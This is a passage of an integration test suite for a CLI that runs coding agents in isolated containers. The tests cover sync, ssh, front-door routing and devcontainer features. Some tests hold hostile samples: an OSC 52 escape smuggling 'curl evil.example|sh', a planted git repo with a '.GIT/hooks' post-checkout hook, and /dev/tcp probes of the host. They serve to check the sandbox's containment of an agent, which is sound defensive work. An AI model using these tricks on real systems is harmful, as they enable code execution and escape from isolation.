      expect(failed.stderr).toContain("\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07");
      expect(failed.stderr).not.toMatch(/[\u001b\u0007]/);
      expect(await treeListing(repo)).toEqual(before);

      // git fetch: a git-upload-pack of the agent's serves a commit whose tree has a .GIT/hooks. git checks
      // every object it is sent; nothing is fetched, no ref here moves, and sync says why.
      const planted = await execIn(
        container,
        `set -e; export GIT_DIR="$HOME/evil.git"; /usr/bin/git init -q --bare "$GIT_DIR"
         blob=$(echo 'touch /tmp/sbx-hook-ran' | /usr/bin/git hash-object -w --stdin)
         hooks=$(printf '100755 blob %s\\tpost-checkout\\n' "$blob" | /usr/bin/git mktree)
         dotgit=$(printf '040000 tree %s\\thooks\\n' "$hooks" | /usr/bin/git mktree)
         top=$(printf '040000 tree %s\\t.GIT\\n' "$dotgit" | /usr/bin/git mktree)
         commit=$(/usr/bin/git -c user.name=agent -c user.email=agent@sandbox commit-tree -m evil "$top")
         /usr/bin/git update-ref refs/heads/main "$commit"
         printf '#!/bin/sh\\nexec /usr/bin/git upload-pack "$HOME/evil.git"\\n' > ~/.hostile/git-upload-pack
         chmod +x ~/.hostile/git-upload-pack; echo "$commit"`,
      );
      expect(planted.code, planted.stderr).toBe(0);
      const refsBefore = git(repo, "for-each-ref");
      const fetched = await sbx(alice, repo, ["sync"]);
      expect(fetched.code, fetched.stderr).toBe(9);
      expect(fetched.stderr).toMatch(/refused what the sandbox sent to git fetch: .*hasDotgit/s);
      expect(git(repo, "for-each-ref")).toBe(refsBefore);
      expect(() => git(repo, "cat-file", "-e", planted.stdout)).toThrow();
      // A fetch that git stops empties FETCH_HEAD and may leave its temporary pack (never an object git
      // uses); the sandbox's refs git pruned first are given back (with new reflogs, and the deletion's
      // packed-refs holding no ref). Everything else is as it was.
      const packed = await fs.readFile(path.join(repo, ".git", "packed-refs"), "utf8").catch(() => "");
      expect(packed.split("\n").filter((line) => line && !line.startsWith("#"))).toEqual([]);
      const settled = (listing: string[]) =>
        listing.filter(
          (line) =>
            !/^\.git\/(FETCH_HEAD |packed-refs |objects\/pack\/tmp_pack_|logs\/refs\/remotes\/sandbox\/)/.test(
              line,
            ),
        );
      expect(settled(await treeListing(repo))).toEqual(settled(before));
    } finally {
      await execIn(
        container,
        "sed -i '/# hostile$/d' ~/.bashrc; rm -rf ~/.hostile ~/evil.git /workspace/app/dist",
      );
    }
  });

  it("US3: no host credential anywhere in the sandbox's filesystem or environment; the sandbox cannot connect to the host", async () => {
    const config = JSON.parse(await fs.readFile(path.join(alice, "agent-sandbox", "config.json"), "utf8"));
    const key = await fs.readFile(path.join(alice, "agent-sandbox", "keys", projectId), "utf8");
    const keyLine = key.split("\n")[2]!; // a line of the private key's body
    const needles = [hostSecret, config.access_token, config.refresh_token, keyLine];
    for (const needle of needles) expect(needle.length).toBeGreaterThan(20);
    const patterns = needles.map((n) => `-e '${n}'`).join(" ");
    // The patterns are in this script's command line (/proc, excluded), not in any file or environment.
    const found = await execIn(
      container,
      `grep -rlsF ${patterns} / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev | head; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -cF ${patterns} || true`,
      "root",
    );
    expect(found.stdout).toBe("0");
    // A server on every host address; the sandbox tries its gateway (the host) on it and on the API's port.
    let connections = 0;
    const server: Server = createServer((socket) => {
      connections += 1;
      socket.destroy();
    });
    await new Promise<void>((resolve) => server.listen(0, "0.0.0.0", resolve));
    const port = (server.address() as AddressInfo).port;
    try {
      const apiPort = new URL(base).port;
      const tries = await execIn(
        container,
        `gw=$(ip route | awk '/default/ {print $3}'); [ -n "$gw" ] || gw=$(ip -4 addr show eth0 | awk '/inet / {split($2,a,"/"); split(a[1],o,"."); print o[1]"."o[2]"."o[3]".1"}')
         for p in ${port} ${apiPort} 22; do timeout 5 bash -c "exec 3<>/dev/tcp/$gw/$p" 2>/dev/null && echo "reached $gw:$p" || echo "refused $gw:$p"; done`,
      );
      expect(tries.stdout).not.toMatch(/reached/);
      expect(tries.stdout.split("\n")).toHaveLength(3);
      expect(connections).toBe(0);
    } finally {
      server.close();
    }
  });

  it(".env pushed and loaded by direnv in the sandbox's shells, never committed", async () => {
    await fs.writeFile(path.join(repo, ".env"), "SBX_DOTENV=from-dotenv\n");
    await fs.writeFile(path.join(repo, ".env.local"), "SBX_LOCAL=from-local\n");
    const pushed = await sbx(alice, repo, ["env", "push", "--json"]);
    expect(pushed.code, pushed.stderr).toBe(0);
    expect(pushed.json()).toEqual({ files: [".env", ".env.local"], to: "/workspace/app" });
    const files = await execIn(
      container,
      "cd /workspace/app && stat -c '%a %n' .env .env.local .envrc && git status --porcelain | grep -c env || true",
    );
    expect(files.stdout).toBe("600 .env\n600 .env.local\n600 .envrc\n0");

    await tmux.open("M", `XDG_CONFIG_HOME=${alice} ${SBX} attach`, repo);
    await tmux.waitFor("M", /agent@[^\n]*\$\s*$/m);
    await tmux.send("M", "cd /workspace/app", "Enter");
    // direnv's hook runs before the next prompt: the variables are there for the next command.
    await tmux.send("M", 'echo "v=$SBX_DOTENV/$SBX_LOCAL"', "Enter");
    await tmux.waitFor("M", "v=from-dotenv/from-local");
  });

  it("auto-commit mode commits inside on its interval, auto-idle once a worktree is idle; manual stops both", async () => {
    const set = await sbx(alice, repo, ["sync", "--mode", "auto-commit", "--interval", "2", "--json"]);
    expect(set.code, set.stderr).toBe(0);
    expect(set.json()).toEqual({ sync: { mode: "auto-commit", interval_seconds: 2 } });
    expect((await sbx(alice, repo, ["status", "--json"])).json()).toMatchObject({
      sync: { mode: "auto-commit", interval_seconds: 2 },
    });
    // A project setting of the API: read back from where the sandbox's daemon reads it (the agent's home).
    expect((await h.as("alice", "GET", `/projects/${projectId}/sync`)).json()).toEqual({
      mode: "auto-commit",
      interval_seconds: 2,
    });
    expect(
      (await execIn(container, "cat ~/.config/agent-sandbox/sync; stat -c %a ~/.config/agent-sandbox/sync"))
        .stdout,
    ).toBe("mode=auto-commit\ninterval=2\n600");
    const badMode = await h.as("alice", "PUT", `/projects/${projectId}/sync`, { mode: "sometimes" });
    expect(badMode.statusCode).toBe(400);
    expect(badMode.json().message).toMatch(/body: mode: /);
    const badInterval = await h.as("alice", "PUT", `/projects/${projectId}/sync`, {
      mode: "auto-commit",
      interval_seconds: 0,
    });
    expect(badInterval.statusCode).toBe(400);
    expect(badInterval.json().message).toMatch(/interval_seconds: must be at least 1 second/);
    expect((await h.as("bob", "GET", `/projects/${projectId}/sync`)).statusCode).toBe(404);
    expect((await h.as("bob", "PUT", `/projects/${projectId}/sync`, { mode: "manual" })).statusCode).toBe(
      404,
    );
    const badCli = await sbx(alice, repo, ["sync", "--mode", "auto-commit", "--interval", "soon"]);
    expect(badCli.code).toBe(2);
    expect(badCli.stderr).toMatch(/--interval must be a number of seconds, not soon/);
    await execIn(container, "echo change > /workspace/app/.worktrees/wt-b/auto.txt");
    await waitFor("the auto-commit", 30_000, async () => {
      const log = await execIn(
        container,
        "git -C /workspace/app/.worktrees/wt-b log -1 --format=%s; git -C /workspace/app/.worktrees/wt-b status --porcelain",
      );
      return /^sbx auto-commit: \d{4}-/.test(log.stdout) ? true : undefined;
    });
    // .env files are excluded, never committed.
    expect(
      (
        await execIn(
          container,
          "git -C /workspace/app log --all --format= --name-only | grep -c '^.env' || true",
        )
      ).stdout,
    ).toBe("0");
    // auto-idle: a worktree is committed once nothing in it has changed for one interval.
    const idle = await sbx(alice, repo, ["sync", "--mode", "auto-idle", "--interval", "2", "--json"]);
    expect(idle.json()).toEqual({ sync: { mode: "auto-idle", interval_seconds: 2 } });
    await execIn(container, "echo idle > /workspace/app/.worktrees/wt-b/idle.txt");
    await waitFor("the auto-idle commit", 30_000, async () => {
      const log = await execIn(container, "git -C /workspace/app/.worktrees/wt-b log -1 --format=%s");
      return /^sbx auto-idle: \d{4}-/.test(log.stdout) ? true : undefined;
    });
    // manual: a change stays uncommitted (the loop sees the new mode at once, then looks every 5 s).
    const manual = await sbx(alice, repo, ["sync", "--mode", "manual"]);
    expect(manual.code).toBe(0);
    await execIn(container, "echo by-hand > /workspace/app/.worktrees/wt-b/manual.txt");
    await new Promise((resolve) => setTimeout(resolve, 7_000));
    expect((await execIn(container, "git -C /workspace/app/.worktrees/wt-b status --porcelain")).stdout).toBe(
      "?? manual.txt",
    );
    await execIn(container, "rm /workspace/app/.worktrees/wt-b/manual.txt");
    const synced = await sbx(alice, repo, ["sync", "--json"]);
    expect(synced.json<{ updated: { ref: string }[] }>().updated.map((u) => u.ref)).toContain("sandbox/wt-b");
  });

  it("ssh runs a command with the project's key, checking the sandbox's host key; ssh-config's block works with plain ssh; worktree rm", async () => {
    const ran = await sbx(alice, repo, ["ssh", "--", "cat", "/workspace/app/README.md"]);
    expect(ran.code, ran.stderr).toBe(0);
    expect(ran.stdout).toBe("# app\n");
    const block = await sbx(alice, repo, ["ssh-config", "--host", "sbx-test-app", "--json"]);
    expect(block.code, block.stderr).toBe(0);
    const sshConfig = path.join(work, "ssh_config");
    await fs.writeFile(sshConfig, `${block.json<{ config: string }>().config}\n`);
    const plain = execFileSync("ssh", ["-F", sshConfig, "-o", "BatchMode=yes", "sbx-test-app", "pwd"], {
      encoding: "utf8",
    });
    expect(plain.trim()).toBe("/home/agent");
    // The host key is checked: the project's known_hosts holds the sandbox's own key, as the API read it, and
    // another key there makes ssh refuse the sandbox (sbx commands rewrite the file from the API).
    const knownHosts = path.join(alice, "agent-sandbox", "keys", `${projectId}.known_hosts`);
    const hostKey = (await execIn(container, "cut -d' ' -f1,2 /etc/ssh/ssh_host_ed25519_key.pub")).stdout;
    expect(await fs.readFile(knownHosts, "utf8")).toBe(`sbx-${projectId} ${hostKey}\n`);
    const other = path.join(work, "other-host-key");
    execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", other]);
    const otherKey = (await fs.readFile(`${other}.pub`, "utf8")).split(" ").slice(0, 2).join(" ");
    await fs.writeFile(knownHosts, `sbx-${projectId} ${otherKey}\n`);
    const refusedHost = await new Promise<{ code: number | null; stderr: string }>((resolve) => {
      const child = execFile(
        "ssh",
        ["-F", sshConfig, "-o", "BatchMode=yes", "sbx-test-app", "pwd"],
        (error, _out, stderr) =>
          resolve({ code: error ? ((error as { code?: number }).code ?? 1) : 0, stderr }),
      );
      child.stdin?.end();
    });
    expect(refusedHost.code).toBe(255);
    expect(refusedHost.stderr).toMatch(/Host key verification failed/);
    expect((await sbx(alice, repo, ["status"])).code).toBe(0);
    expect(await fs.readFile(knownHosts, "utf8")).toBe(`sbx-${projectId} ${hostKey}\n`);

    const added = await sbx(alice, repo, ["worktree", "add", "wt-c", "--json"]);
    expect(added.code, added.stderr).toBe(0);
    await execIn(container, "echo dirty > /workspace/app/.worktrees/wt-c/dirty.txt");
    const refused = await sbx(alice, repo, ["worktree", "rm", "wt-c"]);
    expect(refused.code).toBe(6);
    expect(refused.stderr).toMatch(/worktree wt-c has changes: commit them, or sbx worktree rm --force/);
    const removed = await sbx(alice, repo, ["worktree", "rm", "wt-c", "--force", "--json"]);
    expect(removed.code, removed.stderr).toBe(0);
    const after = await execIn(
      container,
      "ls /workspace/app/.worktrees; tmux has-session -t =wt-c 2>/dev/null || echo no-session; git -C /workspace/app branch --list wt-c",
    );
    expect(after.stdout).toBe("wt-a\nwt-b\nno-session\n  wt-c");
  });

  /** alice's cookie jar for the front door, and her project's front-door URL (US4). */
  let jar: string;
  let frontDoorUrl: string;

  it("US4: a dev server on 3000 inside → sbx open → curl through the front door gets its page; another user gets 404; an undeclared port is refused", async () => {
    // The agent starts a dev server inside (here over sbx ssh, detached from the session).
    const page = `dev server of ${projectId}`;
    const served = await sbx(alice, repo, [
      "ssh",
      "--",
      "bash",
      "-c",
      `mkdir -p /tmp/www && echo '${page}' > /tmp/www/index.html && cd /tmp/www && (setsid nohup python3 -m http.server 3000 >/dev/null 2>&1 </dev/null &)`,
    ]);
    expect(served.code, served.stderr).toBe(0);
    await waitFor("the dev server", 30_000, async () =>
      (await execIn(container, "curl -s -m 2 http://127.0.0.1:3000/")).stdout.includes(page)
        ? true
        : undefined,
    );

    const opened = await sbx(alice, repo, ["open", "3000", "--json"]);
    expect(opened.code, opened.stderr).toBe(0);
    const answer = opened.json<{ project_id: string; port: number; url: string; front_door_url: string }>();
    expect(answer).toMatchObject({ project_id: projectId, port: 3000 });
    frontDoorUrl = answer.front_door_url;
    expect(frontDoorUrl).toMatch(/^http:\/\/[0-9a-f]{12}\.sandbox\.localhost:\d+\/?$/);
    // The one-time URL sets alice's cookie; with it, curl from the host gets the page.
    jar = path.join(work, "front-door-jar");
    expect(await curl(answer.url, "-L", "-c", jar, "-b", jar)).toEqual({ status: 200, body: `${page}\n` });
    expect(await curl(frontDoorUrl, "-b", jar)).toEqual({ status: 200, body: `${page}\n` });
    // The URL was for one use; without alice's cookie the host is not there at all.
    expect((await curl(answer.url)).status).toBe(404);
    expect((await curl(frontDoorUrl)).status).toBe(404);

    // Another user: sbx open on alice's project is "not found", and curl without her cookie is a 404.
    const asBob = await sbx(bob, work, ["open", "3000", "--project", projectId]);
    expect(asBob.code).toBe(4);
    expect(asBob.stderr).toMatch(/project not found/);

    // A port the project did not declare: a clear refusal naming what is declared, and no route made.
    const undeclared = await sbx(alice, repo, ["open", "4000"]);
    expect(undeclared.code).toBe(5);
    expect(undeclared.stderr).toMatch(/port 4000 is not declared for the front door \(declared: 3000\)/);
    expect(undeclared.stderr).toMatch(/no dev server listens there in the sandbox now \(sbx ports/);

    // Undeclared but listening: sbx ports lists it with its name, and sbx open falls back to it.
    await sbx(alice, repo, [
      "ssh",
      "--",
      "bash",
      "-c",
      "cd /tmp/www && (setsid nohup python3 -m http.server 3002 >/dev/null 2>&1 </dev/null &)",
    ]);
    await waitFor("the undeclared dev server", 30_000, async () =>
      (await execIn(container, "curl -s -m 2 http://127.0.0.1:3002/")).stdout.includes(page)
        ? true
        : undefined,
    );
    const ports = await sbx(alice, repo, ["ports", "--json"]);
    expect(ports.code, ports.stderr).toBe(0);
    const found = ports.json<{ dev_servers: { port: number; url: string | null; reachable: boolean }[] }>();
    const on3002 = found.dev_servers.find((server) => server.port === 3002);
    expect(on3002).toMatchObject({ reachable: true });
    expect(on3002!.url).toMatch(/^http:\/\/p3002\.[a-z0-9-]+\.sandbox\.localhost:\d+\/$/);
    const listed = await sbx(alice, repo, ["ports"]);
    expect(listed.stdout).toMatch(/^PORT +ADDRESS +WORKTREE +URL$/m);
    expect(listed.stdout).toContain(on3002!.url!);
    const fallback = await sbx(alice, repo, ["open", "3002", "--json"]);
    expect(fallback.code, fallback.stderr).toBe(0);
    const foundSession = fallback.json<{ port: number; url: string; front_door_url: string }>();
    expect(foundSession).toMatchObject({ port: 3002, front_door_url: on3002!.url });
    const foundJar = path.join(work, "front-door-jar-3002");
    expect(await curl(foundSession.url, "-L", "-c", foundJar, "-b", foundJar)).toEqual({
      status: 200,
      body: `${page}\n`,
    });
    const notAPort = await sbx(alice, repo, ["open", "web"]);
    expect(notAPort.code).toBe(2);
    expect(notAPort.stderr).toMatch(/port: "web" is not a port number/);

    // A worktree's own route: http://<project>-<worktree>.sandbox.localhost to its dev server's port.
    const added = await sbx(alice, repo, ["worktree", "add", "wt-d", "--port", "3001", "--json"]);
    expect(added.code, added.stderr).toBe(0);
    const route = added.json<{ front_door: { name: string; port: number; url: string } }>().front_door;
    expect(route).toMatchObject({
      name: "wt-d",
      port: 3001,
      url: expect.stringMatching(/^http:\/\/[0-9a-f]{12}-wt-d\.sandbox\.localhost:\d+\/?$/),
    });
    const treePage = `worktree wt-d of ${projectId}`;
    const servedTree = await sbx(alice, repo, [
      "ssh",
      "--",
      "bash",
      "-c",
      `cd /workspace/app/.worktrees/wt-d && echo '${treePage}' > index.html && (setsid nohup python3 -m http.server 3001 >/dev/null 2>&1 </dev/null &)`,
    ]);
    expect(servedTree.code, servedTree.stderr).toBe(0);
    await waitFor("the worktree's dev server", 30_000, async () =>
      (await execIn(container, "curl -s -m 2 http://127.0.0.1:3001/")).stdout.includes(treePage)
        ? true
        : undefined,
    );
    const openedTree = await sbx(alice, repo, ["open", "--worktree", "wt-d", "--json"]);
    expect(openedTree.code, openedTree.stderr).toBe(0);
    expect(openedTree.json()).toMatchObject({ port: 3001, front_door_url: route.url });
    const treeJar = path.join(work, "front-door-jar-wt-d");
    expect(await curl(openedTree.json<{ url: string }>().url, "-L", "-c", treeJar, "-b", treeJar)).toEqual({
      status: 200,
      body: `${treePage}\n`,
    });
    // The project's own route still serves the main dev server.
    expect(await curl(frontDoorUrl, "-b", jar)).toEqual({ status: 200, body: `${page}\n` });
    // A worktree name that cannot be a host name's label: refused before anything is made.
    const badName = await sbx(alice, repo, ["worktree", "add", "Bad_Name", "--port", "3002"]);
    expect(badName.code).toBe(5);
    expect(badName.stderr).toMatch(/worktree Bad_Name cannot name a front-door route .*nothing was made/);
    expect((await execIn(container, "ls /workspace/app/.worktrees")).stdout).not.toContain("Bad_Name");
    // Removing the worktree removes its route.
    const removedTree = await sbx(alice, repo, ["worktree", "rm", "wt-d", "--force", "--json"]);
    expect(removedTree.code, removedTree.stderr).toBe(0);
    expect(removedTree.json()).toEqual({ removed: "wt-d", routes_removed: 1 });
    const view = (await h.as("alice", "GET", `/projects/${projectId}`)).json<{
      front_door: { name: string | null; port: number }[];
    }>();
    expect(view.front_door.map((r) => [r.name, r.port])).toEqual([[null, 3000]]);
    expect((await curl(route.url, "-b", treeJar)).status).toBe(404);
  });

  it("sync --watch: a commit inside is under refs/remotes/sandbox/* within 5 s, the developer's tree and index untouched; the watch outlives a restart of the sandbox and follows auto-idle", async () => {
    const refused = await sbx(alice, repo, ["sync", "--watch", "--to", "out", "--artifacts", "dist"]);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(/--watch only fetches commits: it does not take --artifacts, --to/);
    expect((await sbx(alice, repo, ["worktree", "add", "watched"])).code).toBe(0);
    // The developer's work in progress: a staged change, an unstaged one on top, an untracked file.
    const readme = await fs.readFile(path.join(repo, "README.md"), "utf8");
    await fs.writeFile(path.join(repo, "README.md"), `${readme}staged\n`);
    git(repo, "add", "README.md");
    await fs.writeFile(path.join(repo, "README.md"), `${readme}staged\nnot staged\n`);
    await fs.writeFile(path.join(repo, "scratch.txt"), "untracked\n");
    const developer = async () => ({
      status: git(repo, "status", "--porcelain"),
      index: git(repo, "ls-files", "--stage"),
      head: git(repo, "symbolic-ref", "HEAD"),
      branches: git(repo, "for-each-ref", "refs/heads"),
      files: (await treeListing(repo)).filter((line) => line.split(/[/ ]/)[0] !== ".git"),
    });
    const before = await developer();
    expect(before.status.split("\n")).toEqual(["MM README.md", "?? scratch.txt"]);

    const watch = spawn(SBX, ["sync", "--watch"], {
      cwd: repo,
      env: { ...process.env, XDG_CONFIG_HOME: alice },
      stdio: ["ignore", "pipe", "pipe"],
    });
    let stdout = "";
    let stderr = "";
    watch.stdout.on("data", (c: Buffer) => (stdout += c.toString()));
    watch.stderr.on("data", (c: Buffer) => (stderr += c.toString()));
    const exited = new Promise<number | null>((resolve) => watch.once("close", resolve));
    const said = (pattern: RegExp, timeoutMs: number) =>
      waitFor(`the watch to say ${pattern}`, timeoutMs, async () =>
        pattern.test(stderr) ? true : undefined,
      );
    /** A commit made inside as the agent; how long until the host has it under sandbox/watched. */
    const commitAndWait = async (file: string) => {
      const commit = await execIn(
        container,
        `cd /workspace/app/.worktrees/watched && echo ${file} > ${file} && git add ${file} && git commit -q -m 'watched ${file}' && git rev-parse HEAD`,
      );
      expect(commit.code, commit.stderr).toBe(0);
      const committed = performance.now();
      for (;;) {
        const onHost = (() => {
          try {
            return git(repo, "rev-parse", "--verify", "-q", "refs/remotes/sandbox/watched");
          } catch {
            return undefined;
          }
        })();
        const waited = performance.now() - committed;
        if (onHost === commit.stdout) return { sha: commit.stdout, waited };
        if (waited > 5_000)
          throw new Error(`sandbox/watched is ${onHost} after 5 s, not ${commit.stdout}: ${stderr}`);
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
    };
    try {
      await said(/^watching \/workspace\/app: new commits are fetched/m, 60_000);
      const first = await commitAndWait("one.txt");
      expect(first.waited).toBeLessThan(5_000);
      expect(git(repo, "log", "-1", "--format=%s", "sandbox/watched")).toBe("watched one.txt");
      await waitFor("the watch's line for it", 5_000, async () =>
        stdout.includes(`sandbox/watched: `) && stdout.includes(` → ${first.sha.slice(0, 9)}`)
          ? true
          : undefined,
      );
      expect(await developer()).toEqual(before);

      // The sandbox stops and starts again (new host keys, the session gone): the same watch carries on.
      const stopped = await sbx(alice, repo, ["stop", "--json"]);
      expect(stopped.code, stopped.stderr).toBe(0);
      await said(/the sandbox is stopped: waiting for it to run/, 60_000);
      expect((await h.as("alice", "POST", `/projects/${projectId}/start`)).statusCode).toBe(202);
      await said(/^connected to the sandbox again/m, 180_000);
      const second = await commitAndWait("two.txt");
      expect(second.waited).toBeLessThan(5_000);
      expect(git(repo, "rev-list", "--count", `${first.sha}..sandbox/watched`)).toBe("1");
      // auto-idle: the sandbox commits the worktree once it has been quiet for an interval; the watch follows.
      expect((await sbx(alice, repo, ["sync", "--mode", "auto-idle", "--interval", "1"])).code).toBe(0);
      await execIn(container, "echo idle > /workspace/app/.worktrees/watched/idle.txt");
      await waitFor("the auto-idle commit under sandbox/watched", 30_000, async () =>
        /^sbx auto-idle: /.test(git(repo, "log", "-1", "--format=%s", "sandbox/watched")) ? true : undefined,
      );
      expect((await sbx(alice, repo, ["sync", "--mode", "manual"])).code).toBe(0);
      expect(await developer()).toEqual(before);
      expect(watch.exitCode).toBeNull();
      watch.kill("SIGINT");
      expect(await exited).toBe(0);
    } finally {
      watch.kill("SIGKILL");
      git(repo, "reset", "-q", "--", "README.md");
      await fs.writeFile(path.join(repo, "README.md"), readme);
      await fs.rm(path.join(repo, "scratch.txt"), { force: true });
    }
    expect(git(repo, "status", "--porcelain")).toBe("");
  });

  it("devcontainer features, remoteEnv, postStartCommand: a local feature built into the image; a broken one fails the start naming it and the image stays; open-vscode without code prints the command", async () => {
    const helloMeta = {
      id: "hello",
      version: "1.0.0",
      options: { greeting: { type: "string", default: "hello" }, suffix: { type: "string", default: "!" } },
      containerEnv: { HELLO_STATE: "installed" },
    };
    const devcontainer = (features: Record<string, object>) =>
      JSON.stringify({
        features,
        remoteEnv: { SBX_REMOTE: "${localEnv:SBX_TEST_LOCAL}:${containerEnv:HELLO_STATE}" },
        postStartCommand: "echo started-$SBX_REMOTE >> post-start.txt",
      });
    const featured = await makeRepo(path.join(work, "featured"), {
      ".devcontainer/devcontainer.json": devcontainer({ "./features/hello": { greeting: "hi there" } }),
      ".devcontainer/features/hello/devcontainer-feature.json": JSON.stringify(helloMeta),
      // Run as root at build time, with the options as GREETING and SUFFIX.
      ".devcontainer/features/hello/install.sh":
        '#!/bin/sh\nset -e\nprintf \'#!/bin/sh\\necho "%s from hello%s ($HELLO_STATE, $(id -un))"\\n\' "$GREETING" "$SUFFIX" >/usr/local/bin/hello-feature\nchmod 755 /usr/local/bin/hello-feature\n',
    });
    const env = { SBX_TEST_LOCAL: "from-the-host" };
    const started = await sbx(alice, featured, ["start", "--json"], { env });
    expect(started.code, started.stderr).toBe(0);
    const result = started.json<{ project_id: string; devcontainer: string[]; unsupported: string[] }>();
    expect(result.unsupported).toEqual([]);
    expect(result.devcontainer).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^image agent-sandbox\/repo-featured:[0-9a-f]{12}$/),
        "remoteEnv SBX_REMOTE in the agent's login shells",
        "postStartCommand ran",
      ]),
    );
    const featuredContainer = tenantNames(result.project_id).container;
    const image = await docker("inspect", "-f", "{{.Config.Image}}", featuredContainer);
    expect(image).toMatch(/^agent-sandbox\/repo-featured:[0-9a-f]{12}$/);
    // The feature's script, its option and its containerEnv, in an agent's login shell; remoteEnv with the
    // host's value and the container's; the postStartCommand's line, written as the agent.
    const inside = await execIn(
      featuredContainer,
      "bash -lc 'hello-feature; echo $SBX_REMOTE; cd /workspace/featured && cat post-start.txt && stat -c %U post-start.txt'",
    );
    expect(inside.stdout.split("\n")).toEqual([
      "hi there from hello! (installed, agent)",
      "from-the-host:installed",
      "started-from-the-host:installed",
      "agent",
    ]);

    // postStartCommand runs at each start.
    const again = await sbx(alice, featured, ["start"], { env });
    expect(again.code, again.stderr).toBe(0);
    expect((await execIn(featuredContainer, "wc -l < /workspace/featured/post-start.txt")).stdout).toBe("2");

    // A feature whose install.sh fails: the start fails naming it, and the project keeps its image.
    await fs.writeFile(
      path.join(featured, ".devcontainer/devcontainer.json"),
      devcontainer({ "./features/hello": {}, "./features/broken": {} }),
    );
    await fs.mkdir(path.join(featured, ".devcontainer/features/broken"));
    await fs.writeFile(
      path.join(featured, ".devcontainer/features/broken/devcontainer-feature.json"),
      '{ "id": "broken" }',
    );
    await fs.writeFile(
      path.join(featured, ".devcontainer/features/broken/install.sh"),
      "#!/bin/sh\necho broken-feature-says-no >&2\nexit 1\n",
    );
    git(featured, "add", "-A");
    git(featured, "commit", "-q", "-m", "a broken feature");
    const broken = await sbx(alice, featured, ["start"], { env });
    expect(broken.code).toBe(5);
    expect(broken.stderr).toMatch(
      /\.devcontainer\/devcontainer\.json: feature \.\/features\/broken \(broken\) failed to install: install\.sh exited 1 \(broken-feature-says-no\); nothing was created or changed/,
    );
    expect(await docker("inspect", "-f", "{{.Config.Image}}", featuredContainer)).toBe(image);
    const links = JSON.parse(await fs.readFile(path.join(alice, "agent-sandbox", "config.json"), "utf8"));
    expect(links.repos[featured].image).toBe(image);
    expect((await execIn(featuredContainer, "wc -l < /workspace/featured/post-start.txt")).stdout).toBe("2");

    // No VS Code on PATH: the ssh-config step and the exact code command, exit 0, nothing written.
    const bin = path.join(work, "no-code-bin");
    await fs.mkdir(bin);
    for (const tool of [process.execPath, "/usr/bin/dirname", "/usr/bin/readlink", "/usr/bin/git"])
      await fs.symlink(tool, path.join(bin, path.basename(tool)));
    const sshConfig = path.join(work, "vscode-ssh-config");
    const vscode = await sbx(
      alice,
      featured,
      ["open-vscode", "--worktree", "feat/x", "--ssh-config", sshConfig],
      {
        env: { PATH: bin },
      },
    );
    expect(vscode.code, vscode.stderr).toBe(0);
    expect(vscode.stdout).toContain(`sbx ssh-config --host sbx-featured >> ${sshConfig}\n`);
    expect(vscode.stdout).toContain(
      "code --remote ssh-remote+sbx-featured /workspace/featured/.worktrees/feat__x",
    );
    await expect(fs.access(sshConfig)).rejects.toThrow();

    const removed = await sbx(alice, featured, ["rm", "--yes"]);
    expect(removed.code, removed.stderr).toBe(0);
    expect(await tenantLeftovers(platform.config.host, result.project_id)).toEqual([]);
  });

  it("stop, attach to a stopped sandbox (exit 6), start again (nothing new to push), rm", async () => {
    const kept = { mode: "manual", interval_seconds: 45 };
    expect((await h.as("alice", "PUT", `/projects/${projectId}/sync`, kept)).json()).toEqual(kept);
    const stopped = await sbx(alice, repo, ["stop", "--json"]);
    expect(stopped.code, stopped.stderr).toBe(0);
    // A container sleeps with its files alone (a microVM keeps its memory: microvm-tenant.test).
    expect(stopped.json()).toMatchObject({ status: "stopped", pause: { kind: "files" } });
    // The sync setting is the sandbox's: while it is stopped, a 409 naming its status.
    const whileStopped = await h.as("alice", "PUT", `/projects/${projectId}/sync`, { mode: "auto-commit" });
    expect(whileStopped.statusCode).toBe(409);
    expect(whileStopped.json()).toMatchObject({
      error: "sandbox_not_running",
      details: { status: "stopped" },
    });
    // US4 after stop: the owner's curl through the front door gets the "not running" page.
    const notRunning = await curl(frontDoorUrl, "-b", jar);
    expect(notRunning.status).toBe(503);
    expect(notRunning.body).toContain("not running");
    expect(notRunning.body).toContain("<b>stopped</b>");
    expect((await curl(frontDoorUrl)).status).toBe(404);
    const attach = await sbx(alice, repo, ["attach"]);
    expect(attach.code).toBe(6);
    expect(attach.stderr).toMatch(/the sandbox is stopped: sbx start first/);
    const again = await sbx(alice, repo, ["start", "--json"]);
    expect(again.code, again.stderr).toBe(0);
    expect(again.json()).toMatchObject({ project_id: projectId, status: "existing" });
    // ...and it outlived the stop, in the home volume.
    expect((await h.as("alice", "GET", `/projects/${projectId}/sync`)).json()).toEqual(kept);
    // The home (and the commits in it) survived the stop.
    expect(
      (await execIn(container, "git -C /workspace/app log --format=%s wt-a | grep -c 'made inside'")).stdout,
    ).toBe("1");

    // Put to sleep by the platform (the idle shutdown's stop): a plain ssh wakes it, held until it runs.
    // Three at once start it once, and each gets its answer (the same host key: the container is kept).
    const sleep = async () => {
      const key = `${IDLE_SHUTDOWN}${projectId}-${Date.now()}`;
      const { operation } = await requestOperation(h.db, projectId, "stop", key);
      expect((await settledOperation(h.db, operation)).state).toBe("succeeded");
      await waitFor("the SSH waker on the sleeping sandbox's port", 10_000, async () =>
        h.sshWaker!.holding().includes(projectId) ? true : undefined,
      );
    };
    const wakeStarts = async () =>
      (
        await h.db.query<{ n: number }>(
          "select count(*)::int as n from operations where project_id = $1 and kind = 'start' and idempotency_key like 'wake-%'",
          [projectId],
        )
      ).rows[0]!.n;
    await sleep();
    const startsBefore = await wakeStarts();
    const sshes = await Promise.all(
      [1, 2, 3].map(
        (i) =>
          new Promise<{ code: number; stdout: string; stderr: string }>((resolve) => {
            const args = [
              "-F",
              path.join(work, "ssh_config"),
              "-o",
              "BatchMode=yes",
              "-o",
              "ConnectionAttempts=5",
            ];
            const child = execFile(
              "ssh",
              [...args, "sbx-test-app", `echo woken ${i}`],
              (error, stdout, stderr) =>
                resolve({ code: error ? ((error as { code?: number }).code ?? 1) : 0, stdout, stderr }),
            );
            child.stdin?.end();
          }),
      ),
    );
